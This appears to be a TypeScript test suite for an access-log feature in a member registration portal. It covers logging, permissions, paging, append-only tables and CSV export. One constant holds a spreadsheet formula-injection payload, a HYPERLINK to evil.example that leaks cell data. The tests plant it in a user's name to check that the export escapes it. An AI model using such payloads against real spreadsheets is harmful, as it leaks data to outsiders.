import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AccessLogItem } from '@form-a/domain/api/access-log';
import { accessLogs, users } from '../src/db/schema';
import type { Db } from '../src/db/client';
import { AccessLogRecorder } from '../src/modules/access-log/recorder';
import { readAccessLog } from '../src/modules/access-log/repository';
import { bearer, createTestContext, type TestContext } from './helper';
import { upsertMembers } from '../src/modules/members/repository';
import { act, seedRegistry, submitApplication, transferForm, uploadPhoto } from './fixtures';

// ADR 054: every read of a person's full details lands in that person's access log, which
// approvers and administrators read; the table only ever grows.

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"see")';

let ctx: TestContext;
const tokens: Record<string, string> = {};
const accounts: Record<string, { id: number; uid: string }> = {};
let approvedId = 0;
let jigyasuId = '';
let secondApprovedId = 0;
let secondJigyasuId = '';
let pendingId = 0;
let otherBranchPendingId = 0;

const today = () =>
  new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Kolkata' }).format(new Date());

beforeAll(async () => {
  ctx = await createTestContext();
  await seedRegistry(ctx.database.db);
  const signIn = async (
    name: string,
    role: 'BBRANCHSEC' | 'UVVOLUNTER' | 'DBAPPROVER' | 'DATAVIEWER' | 'ADMIN',
    branch: string | null = null,
  ) => {
    const account = await ctx.createUser({ role, branch });
    accounts[name] = account;
    tokens[name] = (await ctx.login(account.uid)).token;
  };
  await signIn('secretary', 'BBRANCHSEC', 'Agra');
  await signIn('secretary2', 'BBRANCHSEC', 'Gurgaon');
  await signIn('validator', 'UVVOLUNTER');
  await signIn('approver', 'DBAPPROVER');
  await signIn('viewer', 'DATAVIEWER');
  await signIn('admin', 'ADMIN');
  await signIn('hostile', 'DBAPPROVER');
  // the recorder's own tests write as this account, so that they count only their own rows
  await signIn('recorder', 'DBAPPROVER');
  await ctx.database.db
    .update(users)
    .set({ name: `${HYPERLINK} approver` })
    .where(eq(users.id, accounts.hostile!.id));

  const photo = await uploadPhoto(ctx.app, tokens.secretary!);
  const approve = async (firstName: string) => {
    const record = await submitApplication(ctx.app, tokens.secretary!, photo, { firstName });
    await act(ctx.app, tokens.validator!, record.id, 'validate', 1);
    const approved = await act(ctx.app, tokens.approver!, record.id, 'approve', 2);
    expect(approved.statusCode, approved.body).toBe(200);
    return { id: record.id, jigyasuId: approved.json().jigyasuId as string };
  };
  ({ id: approvedId, jigyasuId } = await approve('Rohit'));
  ({ id: secondApprovedId, jigyasuId: secondJigyasuId } = await approve('Mohan'));
  pendingId = (await submitApplication(ctx.app, tokens.secretary!, photo, { firstName: 'Sohan' }))
    .id;
  const gurgaonPhoto = await uploadPhoto(ctx.app, tokens.secretary2!);
  otherBranchPendingId = (
    await submitApplication(ctx.app, tokens.secretary2!, gurgaonPhoto, {
      firstName: 'Gita',
      branch: 'Gurgaon',
    })
  ).id;
});
afterAll(async () => ctx?.close());

const get = (url: string, who: string) => ctx.app.inject({ url, headers: bearer(tokens[who]!) });

async function logOf(id: number, who = 'approver', query = ''): Promise<AccessLogItem[]> {
  const response = await get(`/api/registrations/${id}/access-log${query}`, who);
  expect(response.statusCode, response.body).toBe(200);
  return response.json().items as AccessLogItem[];
}

const byAction = (items: AccessLogItem[], action: string) =>
  items.filter((item) => item.action === action);

describe("a record's access log", () => {
  it('lists the approver who opened the record, newest first, to approvers and administrators', async () => {
    const before = await logOf(pendingId);
    expect(byAction(before, 'record')).toEqual([]);

    expect((await get(`/api/registrations/${pendingId}`, 'approver')).statusCode).toBe(200);
    expect((await get(`/api/registrations/${pendingId}`, 'validator')).statusCode).toBe(200);

    const items = await logOf(pendingId);
    expect(items.slice(0, 2)).toEqual([
      {
        at: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
        userUid: accounts.validator!.uid,
        userName: `Test ${accounts.validator!.uid}`,
        role: 'UVVOLUNTER',
        action: 'record',
      },
      expect.objectContaining({
        userUid: accounts.approver!.uid,
        role: 'DBAPPROVER',
        action: 'record',
      }),
    ]);
    expect(Date.parse(items[0]!.at)).toBeGreaterThanOrEqual(Date.parse(items[1]!.at));
    // the administrator reads the same log; reading a log is not itself a read of the record
    expect(await logOf(pendingId, 'admin')).toEqual(items);
  });

  it('is refused to a secretary (her branch or another) and the data viewer; unknown ids are 404', async () => {
    expect((await get(`/api/registrations/${pendingId}`, 'secretary2')).statusCode).toBe(404);
    for (const who of ['secretary', 'secretary2', 'viewer', 'validator']) {
      const response = await get(`/api/registrations/${pendingId}/access-log`, who);
      expect(response.statusCode, who).toBe(403);
      expect(response.json().items).toBeUndefined();
    }
    expect((await get('/api/registrations/999999/access-log', 'approver')).statusCode).toBe(404);
    // a read refused by its scope is no read: the log does not hold it
    expect((await logOf(pendingId)).map((item) => item.userUid)).not.toContain(
      accounts.secretary2!.uid,
    );
  });

  it('pages: limit entries at a time, the next page from nextCursor, nothing twice', async () => {
    for (let i = 0; i < 5; i += 1)
      await get(`/api/registrations/${otherBranchPendingId}`, 'approver');
    const first = await get(
      `/api/registrations/${otherBranchPendingId}/access-log?limit=2`,
      'approver',
    );
    const page1 = first.json() as { items: AccessLogItem[]; nextCursor: string };
    expect(page1.items).toHaveLength(2);
    expect(page1.nextCursor).toMatch(/^\d+\.\d+$/);
    const all: AccessLogItem[] = [...page1.items];
    let cursor: string | null = page1.nextCursor;
    while (cursor) {
      const next = await get(
        `/api/registrations/${otherBranchPendingId}/access-log?limit=2&before=${cursor}`,
        'approver',
      );
      const page = next.json() as { items: AccessLogItem[]; nextCursor: string | null };
      all.push(...page.items);
      cursor = page.nextCursor;
    }
    expect(all).toHaveLength(5);
    const times = all.map((item) => Date.parse(item.at));
    expect([...times].sort((a, b) => b - a)).toEqual(times);
    expect(
      (await get(`/api/registrations/${otherBranchPendingId}/access-log?limit=101`, 'approver'))
        .statusCode,
    ).toBe(400);
    expect(
      (await get(`/api/registrations/${otherBranchPendingId}/access-log?before=x`, 'approver'))
        .statusCode,
    ).toBe(400);
  });
});

describe('each kind of read adds an entry to the record it read', () => {
  it('the approved record (the Jigyasu Data popup) and View Data', async () => {
    const popup = await get(`/api/registrations/${approvedId}/approved-record`, 'approver');
    expect(popup.statusCode, popup.body).toBe(200);
    expect(byAction(await logOf(approvedId), 'approved-record')).toHaveLength(1);

    const viewData = await get(`/api/approved-records/${jigyasuId}`, 'approver');
    expect(viewData.statusCode, viewData.body).toBe(200);
    expect(viewData.json().items).toHaveLength(1);
    const entries = byAction(await logOf(approvedId), 'approved-record');
    expect(entries).toHaveLength(2);
    expect(entries[0]).toMatchObject({ userUid: accounts.approver!.uid, role: 'DBAPPROVER' });
    // the other approved record was read by neither
    expect(byAction(await logOf(secondApprovedId), 'approved-record')).toEqual([]);
  });

  it("a card, alone or in a branch's day of cards (each record in the batch)", async () => {
    const single = await get(`/api/registrations/${approvedId}/card`, 'secretary');
    expect(single.statusCode, single.body).toBe(200);
    expect(byAction(await logOf(approvedId), 'card')).toEqual([
      expect.objectContaining({ userUid: accounts.secretary!.uid, role: 'BBRANCHSEC' }),
    ]);

    const batch = await get(`/api/cards?date=${today()}`, 'secretary');
    expect(batch.statusCode, batch.body).toBe(200);
    expect(byAction(await logOf(approvedId), 'card')).toHaveLength(2);
    expect(byAction(await logOf(secondApprovedId), 'card')).toHaveLength(1);
    expect(byAction(await logOf(pendingId), 'card')).toEqual([]);
  });

  it('an export: every record in the file, none outside its filter', async () => {
    const response = await get(
      '/api/registrations/export?view=all&format=csv&filterField=first_name&filterOperator=equals&filterValue=Mohan',
      'approver',
    );
    expect(response.statusCode, response.body).toBe(200);
    const rows = parse(response.body.replace(/^\ufeff/, ''), { from_line: 2 }) as string[][];
    expect(rows.map((row) => Number(row[0]))).toEqual([secondApprovedId]);

    expect(byAction(await logOf(secondApprovedId), 'export')).toEqual([
      expect.objectContaining({ userUid: accounts.approver!.uid, action: 'export' }),
    ]);
    expect(byAction(await logOf(approvedId), 'export')).toEqual([]);

    const whole = await get('/api/registrations/export?view=all&format=xlsx', 'approver');
    expect(whole.statusCode).toBe(200);
    for (const id of [approvedId, secondApprovedId, pendingId, otherBranchPendingId])
      expect(byAction(await logOf(id), 'export').length).toBeGreaterThanOrEqual(1);
    // the entry says which list and filter field, never the value typed into the filter
    const [entry] = await ctx.database.db
      .select({ detail: accessLogs.detail, count: accessLogs.recordCount })
      .from(accessLogs)
      .where(eq(accessLogs.action, 'export'))
      .orderBy(accessLogs.id)
      .limit(1);
    expect(entry).toMatchObject({
      count: 1,
      detail: {
        view: 'all',
        format: 'csv',
        filterField: 'first_name',
        filterOperator: 'equals',
        exportLogId: expect.any(Number),
      },
    });
    expect(JSON.stringify(entry!.detail)).not.toContain('Mohan');
  });
});

describe("a transfer request opened (the member's contact, address and conduct report)", () => {
  // a member known only from the registry: no record of theirs is in the portal
  const REGISTRY_ONLY = 'TLG198001015001J';
  const requestTransfer = async (uid: string) => {
    const response = await ctx.app.inject({
      method: 'POST',
      url: '/api/transfers',
      headers: bearer(tokens.secretary!),
      payload: transferForm(uid),
    });
    expect(response.statusCode, response.body).toBe(201);
    return response.json().transfer.id as number;
  };

  it("adds an entry for each reader, on the member's record, and the CSV names a member without one", async () => {
    await upsertMembers(ctx.database.db, [
      {
        uid: REGISTRY_ONLY,
        title: 'MR',
        firstName: 'Tilak',
        lastName: 'Gupta',
        branch: 'Agra',
        status: 'Initiated',
      },
    ]);
    const ofApproved = await requestTransfer(secondJigyasuId);
    const ofRegistryOnly = await requestTransfer(REGISTRY_ONLY);
    for (const id of [ofApproved, ofRegistryOnly]) {
      const opened = await get(`/api/transfers/${id}`, 'approver');
      expect(opened.statusCode, opened.body).toBe(200);
    }
    const ownBranch = await get(`/api/transfers/${ofApproved}`, 'secretary');
    expect(ownBranch.statusCode, ownBranch.body).toBe(200);
    // a request the reader may not open is no read
    expect((await get(`/api/transfers/${ofApproved}`, 'secretary2')).statusCode).toBe(404);

    expect(byAction(await logOf(secondApprovedId), 'transfer')).toEqual([
      expect.objectContaining({ userUid: accounts.secretary!.uid, role: 'BBRANCHSEC' }),
      expect.objectContaining({ userUid: accounts.approver!.uid, role: 'DBAPPROVER' }),
    ]);

    const csv = await get(`/api/access-log/export?from=${today()}&to=${today()}&lang=en`, 'admin');
    expect(csv.statusCode, csv.body).toBe(200);
    const lines = (parse(csv.body.replace(/^\ufeff/, '')) as string[][]).filter(
      (line) => line[4] === 'Opened a transfer request',
    );
    expect(lines.map((line) => line.slice(1, 8))).toEqual([
      [
        accounts.approver!.uid,
        expect.any(String),
        'DBAPPROVER',
        'Opened a transfer request',
        String(secondApprovedId),
        secondJigyasuId,
        `{"transferId": ${ofApproved}}`,
      ],
      [
        accounts.approver!.uid,
        expect.any(String),
        'DBAPPROVER',
        'Opened a transfer request',
        '',
        REGISTRY_ONLY,
        `{"transferId": ${ofRegistryOnly}}`,
      ],
      [
        accounts.secretary!.uid,
        expect.any(String),
        'BBRANCHSEC',
        'Opened a transfer request',
        String(secondApprovedId),
        secondJigyasuId,
        `{"transferId": ${ofApproved}}`,
      ],
    ]);
  });
});

describe("the transfer search (an own-branch member's email and phone)", () => {
  const REGISTRY_ONLY = 'KDV197502026001J';
  const OTHER_BRANCH = 'GRG199003037001J';
  const search = (uid: string) => get(`/api/transfers/search?uid=${uid}`, 'secretary');

  it("adds an entry when it shows them, on the member's record or naming the member, and none when it hides them", async () => {
    await upsertMembers(ctx.database.db, [
      {
        uid: REGISTRY_ONLY,
        title: 'MRS',
        firstName: 'Kamla',
        lastName: 'Devi',
        branch: 'Agra',
        status: 'Initiated',
        emailAddress: 'kamla@example.org',
        phoneNumber: '+919812345678',
      },
      {
        uid: OTHER_BRANCH,
        title: 'MR',
        firstName: 'Girish',
        lastName: 'Rao',
        branch: 'Gurgaon',
        status: 'Jigyasu',
        emailAddress: 'girish@example.org',
        phoneNumber: '+919887766554',
      },
    ]);
    const own = await search(REGISTRY_ONLY);
    expect(own.statusCode, own.body).toBe(200);
    expect(own.json().member.email_address).toBe('kamla@example.org');
    const ofRecord = await search(secondJigyasuId);
    expect(ofRecord.statusCode, ofRecord.body).toBe(200);
    // another branch's Jigyasu is found, to ask for the move, without a way to reach them
    const other = await search(OTHER_BRANCH);
    expect(other.statusCode, other.body).toBe(200);
    expect(other.json().member).toMatchObject({ email_address: '', phone_number: '' });

    expect(
      byAction(await logOf(secondApprovedId), 'contact').filter(
        (item) => item.userUid === accounts.secretary!.uid,
      ),
    ).toHaveLength(1);
    const csv = await get(`/api/access-log/export?from=${today()}&to=${today()}&lang=en`, 'admin');
    expect(csv.statusCode, csv.body).toBe(200);
    const lines = (parse(csv.body.replace(/^\ufeff/, '')) as string[][]).filter(
      (line) =>
        line[1] === accounts.secretary!.uid &&
        line[4] === 'Revealed the phone or email' &&
        [REGISTRY_ONLY, secondJigyasuId, OTHER_BRANCH].includes(line[6]!),
    );
    expect(lines.map((line) => line.slice(1, 8))).toEqual([
      [
        accounts.secretary!.uid,
        expect.any(String),
        'BBRANCHSEC',
        'Revealed the phone or email',
        '',
        REGISTRY_ONLY,
        `{"memberUid": "${REGISTRY_ONLY}"}`,
      ],
      [
        accounts.secretary!.uid,
        expect.any(String),
        'BBRANCHSEC',
        'Revealed the phone or email',
        String(secondApprovedId),
        secondJigyasuId,
        // the record names the member: the entry holds no Jigyasu ID of its own
        '',
      ],
    ]);
  });
});

describe('the log is append-only', () => {
  it('refuses UPDATE, DELETE and TRUNCATE through the application connection', async () => {
    // a row in each table: a trigger FOR EACH ROW has nothing to refuse in an empty one
    await get(`/api/registrations/${approvedId}`, 'approver');
    const approver = (await get('/api/auth/me', 'approver')).json().user;
    ctx.app.accessLog.record({
      user: approver,
      action: 'card',
      registrationIds: [approvedId, secondApprovedId],
    });
    await ctx.app.accessLog.flush();
    const refusal = (statement: ReturnType<typeof sql>) =>
      ctx.database.db.execute(statement).then(
        () => 'accepted',
        (error: Error & { cause?: Error }) => `${error.message} ${error.cause?.message ?? ''}`,
      );
    // the suite runs as forma_app, which has no such privilege (ADR 024); the trigger stops the
    // owner too (registrations.test.ts shows it for the history)
    const refused = /permission denied/;
    for (const table of ['access_logs', 'access_log_batches']) {
      expect(
        await refusal(
          sql.raw(
            `UPDATE ${table} SET ${table === 'access_logs' ? "role = 'X'" : 'first_id = first_id'}`,
          ),
        ),
      ).toMatch(refused);
      expect(await refusal(sql.raw(`DELETE FROM ${table}`))).toMatch(refused);
      // both at once: access_logs alone would be refused for its foreign key first
      expect(await refusal(sql.raw('TRUNCATE access_logs, access_log_batches'))).toMatch(refused);
    }
    expect((await logOf(approvedId)).length).toBeGreaterThan(0);
  });
});

describe("the administrator's CSV of a period", () => {
  it('holds every entry of the period, one line per record read, formulas guarded', async () => {
    await get(`/api/registrations/${approvedId}`, 'hostile');
    const response = await get(
      `/api/access-log/export?from=${today()}&to=${today()}&lang=en`,
      'admin',
    );
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="form-a-access-log-${today()}-${today()}.csv"`,
    );
    expect(response.body.startsWith('\ufeff')).toBe(true);
    const [header, ...lines] = parse(response.body.replace(/^\ufeff/, '')) as string[][];
    expect(header).toEqual([
      'When',
      'User ID',
      'User name',
      'Role',
      'What',
      'Application number',
      'Jigyasu ID',
      'Details',
    ]);
    const hostile = lines.filter((line) => line[1] === accounts.hostile!.uid);
    expect(hostile).toEqual([
      [
        expect.stringMatching(new RegExp(`^${today()} \\d\\d:\\d\\d:\\d\\d$`)),
        accounts.hostile!.uid,
        `'${HYPERLINK} approver`,
        'DBAPPROVER',
        'Opened the record',
        String(approvedId),
        jigyasuId,
        '',
      ],
    ]);
    for (const line of lines) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // the whole-list export is one line per record it held
    const exported = lines.filter((line) => line[4] === 'Exported in a list');
    expect(exported.map((line) => Number(line[5]))).toEqual(
      expect.arrayContaining([approvedId, secondApprovedId, pendingId, otherBranchPendingId]),
    );
    const batch = lines.filter(
      (line) => line[4] === 'Printed the registration card' && line[7] !== '',
    );
    expect(batch.map((line) => Number(line[5])).sort()).toEqual(
      [approvedId, secondApprovedId].sort(),
    );

    const hindi = await get(
      `/api/access-log/export?from=${today()}&to=${today()}&lang=hi`,
      'admin',
    );
    expect(hindi.body).toContain('रिकॉर्ड खोला');
  });

  it('is empty for a period without reads, bounded, and for administrators only', async () => {
    const empty = await get('/api/access-log/export?from=2020-01-01&to=2020-01-31', 'admin');
    expect(empty.statusCode).toBe(200);
    expect(parse(empty.body.replace(/^\ufeff/, ''))).toHaveLength(1);

    const tooLong = await get('/api/access-log/export?from=2024-01-01&to=2025-01-02', 'admin');
    expect(tooLong.statusCode).toBe(400);
    expect(JSON.stringify(tooLong.json())).toContain('accessLog.periodTooLong');
    const reversed = await get('/api/access-log/export?from=2025-02-01&to=2025-01-01', 'admin');
    expect(reversed.statusCode).toBe(400);
    expect(JSON.stringify(reversed.json())).toContain('report.periodOrder');

    for (const who of ['approver', 'secretary', 'viewer']) {
      expect(
        (await get(`/api/access-log/export?from=${today()}&to=${today()}`, who)).statusCode,
        who,
      ).toBe(403);
    }
  });
});

describe('the recorder', () => {
  /** A database that can be taken away: its writes fail as a lost connection's do. */
  function flakyDb(db: Db) {
    const state = { down: false };
    const proxy = new Proxy(db, {
      get(target, property, receiver) {
        if (state.down && ['insert', 'execute', 'transaction'].includes(String(property)))
          return () => {
            throw Object.assign(new Error('connection terminated'), { code: '57P01' });
          };
        return Reflect.get(target, property, receiver) as unknown;
      },
    });
    return { db: proxy, state };
  }

  const count = async () =>
    Number(
      (
        (await ctx.database.db.execute(
          sql`SELECT count(*)::int AS n FROM access_logs WHERE user_id = ${accounts.recorder!.id}`,
        )) as unknown as { rows: Array<{ n: number }> }
      ).rows[0]!.n,
    );
  const entry = (id: number) => ({
    user: {
      id: accounts.recorder!.id,
      uid: accounts.recorder!.uid,
      name: 'Recorder',
      email: 'recorder@test.example',
      role: 'DBAPPROVER' as const,
      branch: null,
    },
    action: 'record' as const,
    registrationIds: [id],
  });

  it('keeps what a failed write held, writes it at the next flush, and on close', async () => {
    const { db, state } = flakyDb(ctx.database.db);
    const recorder = new AccessLogRecorder(db, { flushMs: 60_000 });
    const before = await count();
    state.down = true;
    recorder.record(entry(approvedId));
    await recorder.flush();
    expect(recorder.stats()).toMatchObject({ buffered: 1, written: 0, failedWrites: 1 });
    expect(await count()).toBe(before);

    state.down = false;
    await recorder.flush();
    expect(recorder.stats()).toMatchObject({ buffered: 0, written: 1 });
    expect(await count()).toBe(before + 1);

    recorder.record(entry(pendingId));
    await recorder.close();
    expect(await count()).toBe(before + 2);
  });

  it('drops and counts what a full buffer cannot hold, without failing the read', async () => {
    const { db, state } = flakyDb(ctx.database.db);
    state.down = true;
    const recorder = new AccessLogRecorder(db, { flushMs: 60_000, maxBuffered: 2 });
    for (let i = 0; i < 3; i += 1) {
      expect(() => recorder.record(entry(approvedId))).not.toThrow();
    }
    expect(recorder.stats()).toMatchObject({ buffered: 2, dropped: 1 });
    state.down = false;
    await recorder.close();
    expect(recorder.stats()).toMatchObject({ buffered: 0, written: 2, dropped: 1 });
  });

  it('finds a batch from each range of ids it spans', async () => {
    const recorder = new AccessLogRecorder(ctx.database.db, { flushMs: 60_000 });
    // ids a thousand apart fall in different rows of access_log_batches
    const ids = [approvedId, approvedId + 1000, approvedId + 2500, approvedId + 2501];
    recorder.record({ ...entry(approvedId), action: 'card', registrationIds: ids });
    await recorder.close();
    for (const id of ids) {
      const page = await readAccessLog(ctx.database.db, id, { limit: 5 });
      expect(page.items[0], String(id)).toMatchObject({
        userUid: accounts.recorder!.uid,
        action: 'card',
      });
    }
    expect((await readAccessLog(ctx.database.db, approvedId + 1001, { limit: 5 })).items).toEqual(
      [],
    );
  });

  it('writes a refused entry on its own and keeps the others of its batch', async () => {
    const recorder = new AccessLogRecorder(ctx.database.db, { flushMs: 60_000 });
    const before = await count();
    recorder.record(entry(approvedId));
    // no such record: the foreign key refuses it
    recorder.record(entry(987_654_321));
    recorder.record(entry(pendingId));
    await recorder.flush();
    expect(recorder.stats()).toMatchObject({ buffered: 0, written: 2, dropped: 1 });
    expect(await count()).toBe(before + 2);
    await recorder.close();
  });
});
